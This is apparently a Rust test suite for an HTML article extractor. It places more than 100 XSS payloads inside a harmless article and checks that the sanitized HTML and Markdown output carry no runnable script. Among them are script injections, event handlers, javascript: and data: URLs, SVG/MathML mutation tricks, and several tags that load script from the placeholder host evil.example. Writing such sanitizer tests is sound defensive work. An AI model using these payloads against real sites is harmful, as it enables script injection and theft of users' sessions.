//! The XSS suite (issue 6): script-carrying markup of every known shape, each placed inside an
//! otherwise good article. For every vector the article must still be found (the paragraphs
//! around the vector are kept) and nothing able to run script may leave the core:
//!
//! - `contentHtml` is parsed with a real HTML parser, as the reader view's browser will parse
//!   it, and every element, attribute and URL is compared with an allowlist that lives in the
//!   checker (`fuzz/src/safe_output.rs`, shared with the fuzz targets), not in the crate; the
//!   same check runs again after a serialize/parse round trip, where mutation XSS shows;
//! - the Markdown made from it (`html_to_markdown`) has no link or image with a script scheme
//!   and no raw HTML outside code;
//! - the lead image is a safe image URL.
//!
//! One test per family of vectors; a failure names every vector of the family that failed.

#[path = "../fuzz/src/safe_output.rs"]
mod safe_output;

use declutter::{extract, html_to_markdown, Options};

const BEFORE: &[&str] = &[
    "The harbour master of the little port keeps a ledger of every boat that has come in since \
     the spring of the great storm, written in a careful hand that never hurries.",
    "Fishermen say that the ledger is more reliable than the tide tables, because it records \
     what the sea actually did rather than what the almanac promised it would do.",
    "Last winter the ledger filled its final page, and the question of who would buy the next \
     one divided the village council for three long and surprisingly bitter evenings.",
];

const AFTER: &[&str] = &[
    "In the end the schoolchildren raised the money by selling painted pebbles to the summer \
     visitors, and the new ledger now sits on the same shelf as the old ones.",
    "The harbour master has promised to let the children write the first entry themselves, \
     as soon as the first boat of the season rounds the breakwater in April.",
    "Until then the ledger waits, its first page blank, beside a jar of pebbles that nobody in \
     the village has yet found the heart to sell to anyone at all.",
];

/// Where a vector goes in the page.
#[derive(Clone, Copy)]
enum Place {
    /// Between the article's paragraphs, on its own.
    Body,
    /// Inside a paragraph of prose, so the block that holds it is kept and the vector's own
    /// markup reaches the renderer.
    InProse,
    /// In the `<head>`.
    Head,
    /// As attributes of the `<body>` start tag.
    BodyAttrs,
}

fn page(vector: &str, place: Place) -> String {
    let p = |ps: &[&str]| {
        ps.iter()
            .map(|s| format!("<p>{s}</p>\n"))
            .collect::<String>()
    };
    let in_prose = format!(
        "<p>The ledger's green cover, {vector} worn soft by forty years of salt and fingers, \
         was mended twice with sailcloth and glue by the harbour master himself.</p>"
    );
    let (head, body_attrs, inner) = match place {
        Place::Body => ("", "", vector),
        Place::InProse => ("", "", in_prose.as_str()),
        Place::Head => (vector, "", ""),
        Place::BodyAttrs => ("", vector, ""),
    };
    format!(
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\">\
         <title>The harbour ledger</title>{head}</head><body {body_attrs}>\
         <nav><a href=\"/\">Home</a> <a href=\"/news\">News</a></nav>\
         <article><h1>The harbour ledger</h1>\n{}<div class=\"vector\">{inner}</div>\n{}</article>\
         <footer>The Harbour Gazette</footer></body></html>",
        p(BEFORE),
        p(AFTER)
    )
}

/// Markup that must never appear as a tag in the output, whatever the parse says.
const NEVER_AS_TAGS: &[&str] = &[
    "<script",
    "<iframe",
    "<svg",
    "<style",
    "<object",
    "<embed",
    "<form",
    "<base",
    "<meta",
    "<link",
    "<template",
    "<noscript",
    "<input",
    "<button",
    "<frame",
    "<applet",
    "<portal",
    "<area",
    "<textarea",
    "<select",
    "<math href",
];

/// Everything wrong with the extraction of one vector, empty when it is handled.
fn failures(vector: &str, place: Place) -> Vec<String> {
    let html = page(vector, place);
    let mut out = Vec::new();
    for options in [
        Options::default(),
        Options {
            explain: true,
            ..Options::default()
        },
    ] {
        let article = match extract(
            &html,
            Some("https://example.org/news/ledger.html"),
            &options,
        ) {
            Ok(a) => a,
            Err(e) => {
                out.push(format!("no article: {e}"));
                continue;
            }
        };
        for (i, s) in BEFORE.iter().chain(AFTER).enumerate() {
            if !article.text.contains(s) {
                out.push(format!("article paragraph {i} lost"));
            }
        }
        out.extend(safe_output::html_problems(&article.content_html));
        let lower = article.content_html.to_ascii_lowercase();
        for tag in NEVER_AS_TAGS {
            if lower.contains(tag) {
                out.push(format!("{tag} in contentHtml"));
            }
        }
        let md = html_to_markdown(&article.content_html);
        out.extend(safe_output::markdown_problems(&md));
        if let Some(img) = &article.lead_image {
            if !safe_output::image_is_safe(img) {
                out.push(format!("unsafe lead image {img}"));
            }
        }
        if !out.is_empty() {
            out.push(format!("contentHtml was:\n{}", article.content_html));
            out.push(format!("markdown was:\n{md}"));
            break;
        }
    }
    out
}

fn check_family(family: &str, vectors: &[&str], place: Place) {
    let mut report = String::new();
    let places: &[Place] = match place {
        Place::Body => &[Place::Body, Place::InProse],
        _ => std::slice::from_ref(&place),
    };
    for v in vectors {
        for &p in places {
            let f = failures(v, p);
            if !f.is_empty() {
                report.push_str(&format!("\n--- {family}: {v:?}\n{}\n", f.join("\n")));
            }
        }
    }
    assert!(report.is_empty(), "{report}");
}

/// Every vector in this file, counted so the suite keeps its promised size.
const FAMILIES: &[(&str, &[&str])] = &[
    ("script", SCRIPT),
    ("handlers", HANDLERS),
    ("script_urls", SCRIPT_URLS),
    ("image_urls", IMAGE_URLS),
    ("frames_and_plugins", FRAMES_AND_PLUGINS),
    ("svg", SVG),
    ("mathml", MATHML),
    ("forms", FORMS),
    ("css", CSS),
    ("mutation", MUTATION),
    ("escaping", ESCAPING),
    ("head", HEAD),
    ("body_attrs", BODY_ATTRS),
];

#[test]
fn the_suite_has_at_least_100_vectors() {
    let n: usize = FAMILIES.iter().map(|(_, v)| v.len()).sum();
    assert!(n >= 100, "only {n} vectors");
}

#[test]
fn the_checker_catches_what_it_must() {
    // The checker itself can fail: feed it unsafe output directly.
    for bad in [
        "<p>x<script>alert(1)</script></p>",
        "<p onclick=\"alert(1)\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
        "<img src=\"data:image/svg+xml,x\">",
        "<p style=\"color:red\">x</p>",
        "<svg><circle></circle></svg>",
        "<math><maction>x</maction></math>",
        "<iframe srcdoc=\"x\"></iframe>",
    ] {
        assert!(
            !safe_output::html_problems(bad).is_empty(),
            "the checker missed {bad}"
        );
    }
    for bad in [
        "[x](javascript:alert(1))",
        "![x](data:text/html,x)",
        "text <img src=x onerror=alert(1)>",
        "<javascript:alert(1)>",
    ] {
        assert!(
            !safe_output::markdown_problems(bad).is_empty(),
            "the checker missed {bad}"
        );
    }
    for good in [
        "<p>x <a href=\"https://example.com/\">y</a> <img src=\"/a.png\" alt=\"\"></p>",
        "<pre class=\"language-html\">&lt;script&gt;</pre><math><mi>x</mi></math>",
    ] {
        assert!(safe_output::html_problems(good).is_empty(), "{good}");
    }
    for good in [
        "a \\<b> c `<code>` [x](https://e.com) <https://e.com>",
        "```\n<b>\n```",
    ] {
        assert!(safe_output::markdown_problems(good).is_empty(), "{good}");
    }
}

const SCRIPT: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=\"module\">import('//evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\ttype=\"text/javascript\">alert(1);</script>",
    "<script/xss src=\"//evil.example/x.js\"></script>",
    "<<script>alert(1);//<</script>",
    "<p>inline<script>document.write('<p>injected')</script> text</p>",
    "<script type=\"text/template\"><img src=x onerror=alert(1)></script>",
    "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"headline\":\"</script><script>alert(1)</script>\"}</script>",
    "<noscript><script>alert(1)</script></noscript>",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    "<script src=\"data:text/javascript,alert(1)\"></script>",
];

const HANDLERS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=\"https://example.com/a.jpg\" onload=\"alert(1)\">",
    "<p onclick=\"alert(1)\">Click on this text to see nothing happen at all.</p>",
    "<div onmouseover=\"alert(1)\">Hover over this text, nothing happens.</div>",
    "<a href=\"https://example.com/\" onmouseover=alert(1)>a link</a>",
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>marquee text</marquee>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<audio src=x onerror=alert(1)></audio>",
    "<table background=\"javascript:alert(1)\" onclick=alert(1)><tr><td>cell</td></tr></table>",
    "<custom-element onclick=alert(1)>custom element text</custom-element>",
    "<b onpointerenter=alert(1)>bold</b>",
    "<img src=\"https://example.com/a.jpg\" alt=\"x\" onerror\u{b}=alert(1)>",
    "<h2 onanimationstart=alert(1) style=\"animation:x\">A subheading</h2>",
];

const SCRIPT_URLS: &[&str] = &[
    "<a href=\"javascript:alert(1)\">j1</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">j2</a>",
    "<a href=\" javascript:alert(1)\">j3</a>",
    "<a href=\"java\tscript:alert(1)\">j4</a>",
    "<a href=\"java&#x09;script:alert(1)\">j5</a>",
    "<a href=\"java&#10;script:alert(1)\">j6</a>",
    "<a href=\"&#106;avascript:alert(1)\">j7</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">j8</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">j9</a>",
    "<a href=\"javascript&colon;alert(1)\">j10</a>",
    "<a href=\"\u{1}javascript:alert(1)\">j11</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">j12</a>",
    "<a href=\"javascript://%0Aalert(1)\">j13</a>",
    "<a href=\"vbscript:msgbox(1)\">j14</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">j15</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">j16</a>",
    "<a href=\"DATA:text/html,x\">j17</a>",
    "<a href=\"  data:application/xhtml+xml,x\">j18</a>",
    "<a href=\"&Tab;javascript:alert(1)\">j19</a>",
    "<a href=\"javas&NewLine;cript:alert(1)\">j20</a>",
    "<a xlink:href=\"javascript:alert(1)\">j21</a>",
    "<a href=\"jar:javascript:alert(1)\">j22</a>",
    "<a href=\"https://example.com/\"><a href=\"javascript:alert(1)\">nested</a></a>",
    "<area href=\"javascript:alert(1)\">",
    "<map name=m><area shape=rect coords=0,0,9,9 href=\"javascript:alert(1)\"></map>",
    "<a href=\"javascript\u{0}:alert(1)\">j26</a>",
];

const IMAGE_URLS: &[&str] = &[
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img srcset=\"javascript:alert(1) 2x, https://example.com/a.jpg 1x\">",
    "<img data-src=\"javascript:alert(1)\" src=\"https://example.com/a.jpg\">",
    "<picture><source srcset=\"javascript:alert(1)\"><img src=\"https://example.com/a.jpg\"></picture>",
    "<img src=\"https://example.com/a.jpg\" srcset=\"javascript:alert(1)\">",
    "<img src=\" jAvAsCrIpT:alert(1)\">",
    "<img src=\"&#106;avascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
    "<image src=\"javascript:alert(1)\">",
    "<figure><img src=\"vbscript:x\"><figcaption>caption text</figcaption></figure>",
    "<noscript><img src=\"javascript:alert(1)\"></noscript>",
    "<img src=\"data:image/png;base64,iVBORw0KGgo\" onerror=alert(1)>",
];

const FRAMES_AND_PLUGINS: &[&str] = &[
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">fallback</object>",
    "<object><param name=\"movie\" value=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<applet code=\"X.class\">applet</applet>",
    "<portal src=\"https://evil.example/\"></portal>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
];

const SVG: &[&str] = &[
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=\"data:,alert(1)\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>click</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
    "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><style>@import 'javascript:alert(1)'</style></svg>",
    "<svg><image href=\"javascript:alert(1)\"/></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg onload=alert(1)></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
];

const MATHML: &[&str] = &[
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><semantics><annotation-xml encoding=\"application/xhtml+xml\"><script>alert(1)</script></annotation-xml></semantics></math>",
    "<math><mtext><svg><script>alert(1)</script></svg></mtext></math>",
    // Closed at the end: left open, it pulls the rest of the article into the formula.
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></mtext></math></form>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math><a href=\"javascript:alert(1)\">mathlink</a></math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><mi style=\"color:red\" onclick=alert(1)>x</mi></math>",
];

const FORMS: &[&str] = &[
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">go</button>",
    "<input type=\"image\" src=\"javascript:alert(1)\">",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<label>name <input value=\"&quot;><script>alert(1)</script>\"></label>",
    "<dialog open><form method=dialog><button>close</button></form></dialog>",
];

const CSS: &[&str] = &[
    "<p style=\"background:url(javascript:alert(1))\">A styled paragraph of ordinary words.</p>",
    "<div style=\"width: expression(alert(1))\">expression text</div>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>@import \"https://evil.example/x.css\";</style>",
    "<p style=\"behavior: url(x.htc)\">behaviour text</p>",
    "<p style=\"-moz-binding: url(https://evil.example/x.xml#xss)\">binding text</p>",
    "<link rel=stylesheet href=\"data:text/css,body{background:url(javascript:alert(1))}\">",
    "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</span>",
    "<div STYLE=\"background-image: url(&#1;javascript:alert(1))\">entity in css</div>",
    "<p style=\"color:red;background:url('ja\\vascript:alert(1)')\">escaped css</p>",
];

const MUTATION: &[&str] = &[
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    "<style><img src=x onerror=alert(1)></style>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<table><style><img src=x onerror=alert(1)></style></table>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<a title=\"</a><img src=x onerror=alert(1)>\" href=\"https://example.com/\">t</a>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></table></mtext></math>",
];

const ESCAPING: &[&str] = &[
    "<p>&lt;img src=x onerror=alert(1)&gt; written as text in the article.</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; written as text.</p>",
    "<a href=\"https://example.com/?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">quoted</a>",
    "<img alt=\"&quot; onerror=&quot;alert(1)\" src=\"https://example.com/a.jpg\">",
    "<img alt=\"`` onerror=alert(1)\" src=\"https://example.com/a.jpg\">",
    "<p title=\"a&quot;onmouseover=alert(1)//\">titled paragraph</p>",
    "<abbr title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">abbr</abbr>",
    "<pre>```\n&lt;img src=x onerror=alert(1)&gt;\n```</pre>",
    "<p>Inline <code>`&lt;img src=x onerror=alert(1)&gt;</code> code.</p>",
    "<pre><code class=\"language-x&quot;&gt;&lt;script&gt;\">code</code></pre>",
    "<p>[link](javascript:alert(1)) written as text</p>",
    "<p>&lt;javascript:alert(1)&gt; written as an autolink</p>",
    "<p>![img](data:text/html,x) written as text</p>",
    "<time datetime=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">today</time>",
    "<ol start=\"1&quot; onclick=&quot;alert(1)\"><li>item</li></ol>",
    "<td colspan=\"2 onclick=alert(1)\">cell</td>",
    "<a href=\"https://example.com/a)<img src=x onerror=alert(1)>\">paren</a>",
    "<a href=\"https://example.com/a b) [x](javascript:alert(1)\">space</a>",
    "<img src=\"https://example.com/a.jpg)<svg onload=alert(1)>\" alt=\"paren image\">",
    "<img src=\"https://example.com/a.jpg\" alt=\"<img src=x onerror=alert(1)>\">",
    "<p dir=\"rtl&quot; onclick=&quot;alert(1)\" lang=\"en&quot;&gt;\">attributes</p>",
];

const HEAD: &[&str] = &[
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>alert(1)</script>\">",
    "<link rel=\"import\" href=\"https://evil.example/x.html\">",
    "<meta property=\"og:image\" content=\"javascript:alert(1)\">",
    "<meta property=\"og:image\" content=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"image\":\"javascript:alert(1)\"}</script>",
    "<meta name=\"twitter:image\" content=\" JAVASCRIPT:alert(1)\">",
];

const BODY_ATTRS: &[&str] = &[
    "onload=\"alert(1)\"",
    "onpageshow=alert(1) style=\"background:url(javascript:alert(1))\"",
    "background=\"javascript:alert(1)\"",
];

#[test]
fn script_elements() {
    check_family("script", SCRIPT, Place::Body);
}

#[test]
fn event_handlers() {
    check_family("handlers", HANDLERS, Place::Body);
}

#[test]
fn script_urls_in_links() {
    check_family("script_urls", SCRIPT_URLS, Place::Body);
}

#[test]
fn script_urls_in_images() {
    check_family("image_urls", IMAGE_URLS, Place::Body);
}

#[test]
fn frames_and_plugins() {
    check_family("frames_and_plugins", FRAMES_AND_PLUGINS, Place::Body);
}

#[test]
fn svg_content() {
    check_family("svg", SVG, Place::Body);
}

#[test]
fn mathml_and_namespace_confusion() {
    check_family("mathml", MATHML, Place::Body);
}

#[test]
fn forms_and_controls() {
    check_family("forms", FORMS, Place::Body);
}

#[test]
fn css() {
    check_family("css", CSS, Place::Body);
}

#[test]
fn mutation_xss() {
    check_family("mutation", MUTATION, Place::Body);
}

#[test]
fn escaping_of_text_and_attributes() {
    check_family("escaping", ESCAPING, Place::Body);
}

#[test]
fn head_elements() {
    check_family("head", HEAD, Place::Head);
}

#[test]
fn body_attributes() {
    check_family("body_attrs", BODY_ATTRS, Place::BodyAttrs);
}

#[test]
fn links_stay_safe_without_a_base_url() {
    // No page URL: relative links stay relative and script links still go.
    let html = page(
        "<p>The <a href=\"javascript:alert(1)\">old ledgers</a> and the \
         <a href=\"rel/ok\">harbour records</a> tell the same story of boats and weather.</p>",
        Place::Body,
    );
    let a = extract(&html, None, &Options::default()).expect("article");
    assert!(safe_output::html_problems(&a.content_html).is_empty());
    assert!(a.content_html.contains("href=\"rel/ok\""));
}
